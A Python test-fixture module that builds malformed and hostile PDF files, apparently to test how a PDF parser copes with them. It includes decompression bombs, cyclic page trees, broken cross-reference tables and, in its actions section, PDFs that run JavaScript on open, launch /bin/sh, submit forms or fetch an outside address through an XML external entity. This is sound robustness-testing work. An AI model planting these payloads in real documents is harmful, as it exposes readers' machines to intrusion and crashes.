"""PDF files that mean harm."""

# ruff: noqa: E501 - much of this is data, best read a line at a time

import zlib
from collections.abc import Iterator
from random import Random

from .mutations import VALUES, Made, Table

_NOTE = ("Return home interview", "Name: Tia Marlowe", "Date of interview: 03/06/2024", "She was with Zed.")
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>"


def stream(data: bytes, entries: bytes = b"", length: object = None) -> bytes:
    """A stream object."""
    said = str(len(data) if length is None else length).encode()
    return b"<</Length " + said + entries + b">>\nstream\n" + data + b"\nendstream"


def _flate(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + entries)


def _said(lines: tuple[str, ...] | list[str]) -> bytes:
    shown = (b"(" + line.encode("cp1252", "replace").translate(None, b"()\\\r\n") + b") Tj T*\n" for line in lines)
    return b"BT /F1 11 Tf 14 TL 50 780 Td\n" + b"".join(shown) + b"ET"


_SOUND = _said(_NOTE)


def pdf(changed: dict[int, bytes] | None = None, *, trailer: bytes = b"", root: bytes = b"1 0 R", size: int = 0,
        start: int | None = None) -> bytes:  # fmt: skip
    """A file of one page, objects 1 to 5, with some of them exchanged or added."""
    objects = {1: _CATALOG, 2: _TREE, 3: _PAGE, 4: stream(_SOUND), 5: _FONT} | (changed or {})
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), dict[int, int]()
    for number, content in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    at, most = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % most
    for number in range(1, most):
        out += b"%010d 00000 %c \n" % (places.get(number, 0), b"n"[0] if number in places else b"f"[0])
    out += b"trailer\n<</Size %d/Root %b%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        size or most,
        root,
        trailer,
        at if start is None else start,
    )
    return bytes(out)


def written_pdf(random: Random, table: Table) -> Made:
    """A table's cells as the lines of a page, plain or packed."""
    lines = [*_NOTE, *(random.choice((" | ", " ", ": ", ", ")).join(row) for row in table)]
    random.shuffle(lines)
    packed = random.choice((stream, _flate))
    return Made("wrong words", pdf({4: packed(_said(lines))}))


def hostile_pdfs(address: str) -> Iterator[Made]:
    """Each by hand."""
    yield from _trees()
    yield from _streams()
    yield from _fonts()
    yield from _actions(address)
    yield from _structures()
    for value in VALUES:
        lines = [line.replace("03/06/2024", value).replace("Tia Marlowe", value) for line in _NOTE]
        yield Made(f"a note that says {value[:12]!r}", pdf({4: _flate(_said(lines))}))


def _trees() -> Iterator[Made]:
    yield Made("sound", pdf(), refused=False)
    yield Made("a tree that holds itself", pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}))
    yield Made(
        "a tree in a ring", pdf({2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})
    )
    yield Made("parents in a ring", pdf({2: _TREE[:-2] + b"/Parent 6 0 R>>", 6: b"<</Type/Pages/Parent 2 0 R>>",
               3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>"}))  # fmt: skip
    deep = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(6, 3_000)} | {3_000: _PAGE}
    yield Made("a tree 3,000 deep", pdf({2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", **deep}))
    yield Made(
        "one page 100,000 times",
        pdf({2: b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>"}),
        refused=True,
    )
    yield Made("branches that double, 40 deep", pdf(
        {2: b"<</Type/Pages/Kids[6 0 R 6 0 R]/Count 4>>"}
        | {n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 4>>" % (n + 1, n + 1) for n in range(6, 46)} | {46: _PAGE}))  # fmt: skip
    for said in (b"2147483647", b"-1", b"0", b"1e9", b"(x)", b"99999999999999999999", b"2 0 R", b"null"):
        yield Made(f"a count of {said!r}", pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count " + said + b">>"}))
    for kids in (b"null", b"3 0 R", b"[]", b"[null 3 0 R]", b"[99 0 R]", b"[(x)]", b"<<>>", b"[1 0 R]", b"[5 0 R]"):
        yield Made(f"kids {kids!r}", pdf({2: b"<</Type/Pages/Count 1/Kids " + kids + b">>"}))
    for root in (b"99 0 R", b"3 0 R", b"4 0 R", b"null", b"[1 0 R]", b"(x)", b"<<>>", b"1 5 R"):
        yield Made(f"a root of {root!r}", pdf(root=root))
    pages = dict.fromkeys(range(10, 511), _PAGE)
    kids = b" ".join(b"%d 0 R" % n for n in pages)
    yield Made("501 pages", pdf({2: b"<</Type/Pages/Kids[" + kids + b"]/Count 501>>", **pages}), refused=True)
    yield Made(
        "499 pages", pdf({2: b"<</Type/Pages/Kids[" + kids[: -len(b" 509 0 R 510 0 R")] + b"]/Count 499>>", **pages})
    )
    for name in (b"MediaBox", b"Resources", b"Contents", b"Rotate", b"Annots"):
        for value in (b"null", b"3 0 R", b"[]", b"(x)", b"<</A 3 0 R>>", b"-1e308", b"[3 0 R 3 0 R]"):
            yield Made(
                f"{name.decode()} {value!r}",
                pdf({3: _PAGE.replace(b"/Type/Page", b"/Type/Page/" + name + b" " + value, 1)}),
            )


def _streams() -> Iterator[Made]:
    yield Made("a bomb in a page", pdf({4: _flate(_SOUND + b" " * 100_000_000)}), refused=True)
    twice = zlib.compress(zlib.compress(b" " * 100_000_000, 9), 9)
    yield Made("a bomb packed twice", pdf({4: stream(twice, b"/Filter[/FlateDecode/FlateDecode]")}), refused=True)
    yield Made(
        "300,000 lines on a page", pdf({4: _flate(_said(["some words that are shown"] * 300_000))}), refused=True
    )
    yield Made("1,000 filters", pdf({4: stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 1_000 + b"]")}))
    yield Made(
        "one stream 20,000 times",
        pdf({3: _PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 20_000 + b"]"), 4: stream(_SOUND * 30)}),
    )
    for name in ("LZWDecode", "ASCII85Decode", "ASCIIHexDecode", "RunLengthDecode", "DCTDecode", "JBIG2Decode", "JPXDecode",
                 "CCITTFaxDecode", "Crypt", "NoSuchDecode"):  # fmt: skip
        for data in (b"\xff" * 4_000, Random(name).randbytes(4_000), b"", b"z" * 4_000 + b"~>"):
            yield Made(f"{name} of {data[:4]!r}", pdf({4: stream(data, b"/Filter/" + name.encode())}))
    yield Made("run lengths without end", pdf({4: stream(b"\x81 " * 600_000 + b"\x80", b"/Filter/RunLengthDecode")}))
    for parameters in (b"/Predictor 15/Columns 2147483647", b"/Predictor 12/Columns 0", b"/Predictor 12/Columns -5",
                       b"/Predictor 2/Columns 9/Colors 99999", b"/Predictor 99", b"/Predictor 12/Columns(x)"):  # fmt: skip
        yield Made(f"parameters {parameters!r}", pdf({4: _flate(_SOUND, b"/DecodeParms<<" + parameters + b">>")}))
    for length in (-1, 0, 10**9, "99 0 R", "4 0 R", "(x)", "null"):
        yield Made(f"a length of {length}", pdf({4: stream(_SOUND, length=length)}))
    yield Made(
        "half a packed stream", pdf({4: stream(zlib.compress(_SOUND * 20)[:60], b"/Filter/FlateDecode")}), refused=True
    )
    for orders in (b"q " * 300_000, b"BT " * 200_000, b"(" * 300_000, b"[" * 100_000, b"<<" * 100_000, b"/F1 0 Tf " * 100_000,
                   b"1 " * 500_000, b"BI /W 1 /H 1 ID " + b"x" * 500_000, b"1e308 0 0 1e308 0 0 cm " * 10_000 + _SOUND,
                   b"BT /F1 NaN Tf (x) Tj ET", b"BT /F1 1e999 Tf 0 0 Td (x) Tj ET", b"BT /None 1 Tf (words) Tj ET",
                   b"BT /F1 11 Tf [(a) 1e308 (b) -1e308 (c)] TJ ET", b"\x00" * 100_000, b"%" * 300_000, b"< 41", b"<ZZ> Tj",
                   b"BT /F1 11 Tf " + b"(x) Tj T* " * 30_000 + b"ET", b"BT /F1 1 Tf " + b"1 0 0 1 0 1 Tm (x) Tj " * 20_000 + b"ET",
                   b"(a) ' (b) \" Tj TJ Td TD Tm T* Tf", b"BT /F1 11 Tf 1 Tj null TJ [null] TJ ET"):  # fmt: skip
        yield Made(f"orders {orders[:16]!r}", pdf({4: _flate(orders)}))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>"
    page = _PAGE.replace(b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<")
    yield Made("a form that draws itself", pdf({3: page, 4: stream(b"/X Do " + _SOUND), 6: stream(b"/X Do", form)}))
    chain = {n: stream(b"/X Do /X Do", form.replace(b"6 0 R", b"%d 0 R" % (n + 1))) for n in range(6, 40)}
    yield Made(
        "forms that double, 34 deep", pdf({3: page, 4: stream(b"/X Do " + _SOUND), **chain, 40: stream(_SOUND, form)})
    )


def _fonts() -> Iterator[Made]:
    composite = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[7 0 R]%b>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>%b>>"
    shown = stream(b"BT /F1 11 Tf 50 700 Td <004100420043> Tj ET")
    yield Made("a font without a key", pdf({4: shown, 5: composite % b"", 7: below % b""}), refused=None)
    maps = (
        b"1 beginbfrange <0000> <ffffffff> <0000> endbfrange", b"1 beginbfrange <0000> <ffff> [<0041>] endbfrange",
        b"1 beginbfrange <ffffffff> <00000000> <0041> endbfrange", b"1 beginbfrange <00> <10> [" + b"<0041>" * 90_000,
        b"1 beginbfchar <0041> <d800> endbfchar", b"1 beginbfchar <0041> <" + b"0041" * 20_000 + b"> endbfchar",
        b"1 beginbfchar <41> endbfchar", b"999999999 beginbfchar", b"beginbfrange <zz> <yy> <xx> endbfrange", b"\x00\xff" * 9_000,
        b"1 begincodespacerange <00> <ffffffffffff> endcodespacerange", b"1 beginbfrange <0000> <fffe> <fff0> endbfrange",
        b"1 beginbfrange\n" + b"<0000> <ffff> <0000>\n" * 3_000 + b"endbfrange",
    )  # fmt: skip
    for content in maps:
        key = b"/CIDInit /ProcSet findresource begin begincmap\n" + content + b"\nendcmap end"
        yield Made(
            f"a key that says {content[:40]!r}",
            pdf({4: shown, 5: composite % b"/ToUnicode 8 0 R", 7: below % b"", 8: _flate(key)}),
        )
    for widths in (b"/W[0 2147483647 500]", b"/W[0[1 2", b"/W[0 1]", b"/W[(x)]", b"/W 7 0 R", b"/DW(x)"):
        yield Made(f"widths {widths!r}", pdf({4: shown, 5: composite % b"", 7: below % widths}))
    for font in (b"/Encoding<</Differences[0/a/b(x)-1/c 99999999/d]>>", b"/Encoding 5 0 R", b"/Encoding/None", b"/ToUnicode 4 0 R",
                 b"/ToUnicode 5 0 R", b"/FirstChar -1/LastChar 2147483647/Widths[1]", b"/Widths 5 0 R", b"/FontDescriptor 5 0 R",
                 b"/Encoding<</BaseEncoding/x/Differences 5 0 R>>", b"/DescendantFonts[5 0 R]", b"/ToUnicode/Identity-H"):  # fmt: skip
        yield Made(f"a font with {font[:30]!r}", pdf({5: _FONT[:-2] + font + b">>"}))
    for font in (b"null", b"5 0 R", b"[]", b"(x)", b"<<>>", b"<</Type/Font/Subtype/Type3/CharProcs 5 0 R>>"):
        yield Made(f"a font {font!r}", pdf({5: font}))


def _actions(address: str) -> Iterator[Made]:
    url = address.encode()
    script = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%b/js'\\))>>" % url
    yield Made("a script", pdf({1: _CATALOG[:-2] + script + b">>"}), refused=False)
    yield Made(
        "an address to open", pdf({1: _CATALOG[:-2] + b"/OpenAction<</S/URI/URI(%b/uri)>>>>" % url}), refused=False
    )
    yield Made("a program to start", pdf({1: _CATALOG[:-2] + b"/OpenAction<</S/Launch/F(/bin/sh)>>>>"}), refused=False)
    yield Made(
        "a form to send", pdf({1: _CATALOG[:-2] + b"/OpenAction<</S/SubmitForm/F(%b/form)>>>>" % url}), refused=False
    )
    yield Made("a page from another file", pdf({4: stream(b"", b"/F(%b/page)" % url)}))
    files = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>"
    yield Made("a file inside", pdf({1: _CATALOG[:-2] + files + b">>", 6: stream(b"MZ" + bytes(999))}), refused=False)
    yield Made(
        "names in a ring",
        pdf({1: _CATALOG[:-2] + b"/Names<</EmbeddedFiles 6 0 R>>>>", 6: b"<</Kids[6 0 R]>>"}),
        refused=False,
    )
    xfa = b"/AcroForm<</XFA 6 0 R/Fields[]>>"
    yield Made(
        "a form of XML",
        pdf({1: _CATALOG[:-2] + xfa + b">>", 6: stream(b"<!DOCTYPE a [<!ENTITY x SYSTEM '%b/x'>]><a>&x;</a>" % url)}),
    )
    for fields, added in (
        (b"[6 0 R]", {6: b"<</FT/Tx/T(a)/V(words)/Kids[6 0 R]/Parent 6 0 R>>"}),
        (b"[6 0 R]", {6: b"<</FT/Tx/T(a)/Parent 7 0 R>>", 7: b"<</T(b)/Parent 6 0 R/Kids[6 0 R]>>"}),
        (b"[" + b"6 0 R " * 50_000 + b"]", {6: b"<</FT/Tx/T(a)/V(words)>>"}),
        (b"6 0 R", {6: b"null"}), (b"[null 5 0 R (x)]", {}), (b"[6 0 R]", {6: b"<</FT/Tx/T 6 0 R/V 6 0 R>>"}),
        (b"[6 0 R]", {n: b"<</T(a)/Kids[%d 0 R]>>" % (n + 1) for n in range(6, 1_500)}),
    ):  # fmt: skip
        yield Made(
            f"fields {fields[:20]!r} {added.get(6, b'')[:30]!r}",
            pdf({1: _CATALOG[:-2] + b"/AcroForm<</Fields " + fields + b">>>>", **added}),
        )


def _structures() -> Iterator[Made]:
    for opened in (b"[", b"<<", b"<</A ", b"(", b"<", b"/", b"%", b"<</A[", b"1 0 obj "):
        yield Made(
            f"an object of {opened!r} 200,000 times", pdf({6: opened * 200_000, 1: _CATALOG[:-2] + b"/X 6 0 R>>"})
        )
        yield Made(f"a catalogue of {opened!r} 20,000 times", pdf({1: _CATALOG[:-2] + b"/X " + opened * 20_000}))
    for trailer in (b"/Prev 9", b"/Prev 99999999999", b"/Prev -1", b"/Prev(x)", b"/XRefStm 9", b"/Encrypt<<>>", b"/Encrypt 1 0 R",
                    b"/Encrypt<</Filter/Standard/V 9/R 9/O(x)/U(x)/P -1>>", b"/Encrypt<</Filter/Standard/V 5/R 6/O()/U()/P 1>>/ID[()()]",
                    b"/Encrypt<</Filter/Standard/V 1/R 2/O(%b)/U(%b)/P -1>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32), b"/ID 1 0 R",
                    b"/Encrypt<</Filter/None>>", b"/Info 4 0 R", b"/Root 4 0 R", b"/" + b"A" * 300_000 + b" 1"):  # fmt: skip
        yield Made(f"a trailer with {trailer[:40]!r}", pdf(trailer=trailer))
    for start in (0, -1, 9, 10**18, 12):
        yield Made(f"a list at {start}", pdf(start=start))
    for size in (1, 10**9, 2**63):
        yield Made(f"a size of {size}", pdf(size=size))
    sound = pdf()
    at = sound.index(b"xref\n")
    tail = b"startxref\n%d\n%%%%EOF\n" % at
    yield Made("a list that leads to itself", pdf(trailer=b"/Prev %d" % at))
    yield Made(
        "a list of a billion",
        sound[:at] + b"xref\n0 1000000000\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 6>>\n" + tail,
    )
    yield Made(
        "a list from -5", sound[:at] + b"xref\n-5 9\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 6>>\n" + tail
    )
    for entries in (b"/W[1 2 1]/Index[0 1000000000]", b"/W[9 9 9]", b"/W[0 0 0]/Size 1000000000", b"/W[-1 2 1]", b"/W(x)", b"/W[1 999999999 1]",
                    b"/W[1 2 1]/Index[0]", b"/W[1 2 1]/Prev %d" % at, b"/W[1 2 1]/Index[-1 9]"):  # fmt: skip
        packed = b"9 0 obj\n" + _flate(bytes(4_000), b"/Type/XRef/Size 10/Root 1 0 R" + entries) + b"\nendobj\n"
        yield Made(f"a packed list {entries!r}", sound[:at] + packed + tail)
    yield Made("a packed list of 100 MB", sound[:at] + b"9 0 obj\n" + _flate(bytes(100_000_000), b"/Type/XRef/Size 10/Root 1 0 R/W[1 2 1]")
               + b"\nendobj\n" + tail)  # fmt: skip
    held = (
        b"6 0 obj\n"
        + stream(b"1 0 2 99999 3 -1 " + _CATALOG, b"/Type/ObjStm/N 1000000000/First 17/Extends 6 0 R")
        + b"\nendobj\n"
    )
    rows = b"".join(bytes((2, 0, 6, n)) for n in range(10))
    packed = b"9 0 obj\n" + stream(rows, b"/Type/XRef/Size 10/Root 1 0 R/W[1 2 1]") + b"\nendobj\n"
    yield Made(
        "objects held in a broken stream", b"%PDF-1.7\n" + held + packed + b"startxref\n%d\n%%%%EOF" % (9 + len(held))
    )
    inside = b"6 0 obj\n" + stream(b"6 0", b"/Type/ObjStm/N 1/First 4") + b"\nendobj\n"
    yield Made(
        "a stream that holds itself", b"%PDF-1.7\n" + inside + packed + b"startxref\n%d\n%%%%EOF" % (9 + len(inside))
    )
    yield Made("no list", sound[:at], refused=True)
    yield Made("no list, but a place for it", sound[:at] + tail)
    yield Made("only a heading", b"%PDF-1.7\n", refused=True)
    yield Made("words before", b"words\n" * 100 + sound)
    yield Made("words behind", sound + b"words\n" * 2_000)
    yield Made("two files in one", sound + sound)
    yield Made("old line ends", sound.replace(b"\n", b"\r"))
    yield Made("5 MB of nothing inside", pdf({6: b"(" + b" " * 5_000_000 + b")"}))
    yield Made("100,000 objects", pdf(dict.fromkeys(range(10, 40000), b"<<>>")))
